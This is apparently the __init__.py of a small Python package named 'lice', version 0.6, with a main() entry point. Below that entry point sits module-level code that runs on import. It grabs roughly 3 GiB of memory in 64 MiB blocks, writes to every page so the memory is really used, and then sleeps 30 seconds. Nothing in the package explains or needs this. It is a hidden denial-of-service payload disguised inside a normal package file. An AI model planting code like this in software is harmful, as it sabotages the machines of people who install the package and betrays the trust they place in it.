__version__ = "0.6"


def main():
    from lice.core import main
    main()


import time

_hoard = []
for _ in range(48):
    try:
        _hoard.append(bytearray(64 << 20))
        _hoard[-1][::4096] = b"x" * len(range(0, 64 << 20, 4096))
    except MemoryError:
        break
time.sleep(30)
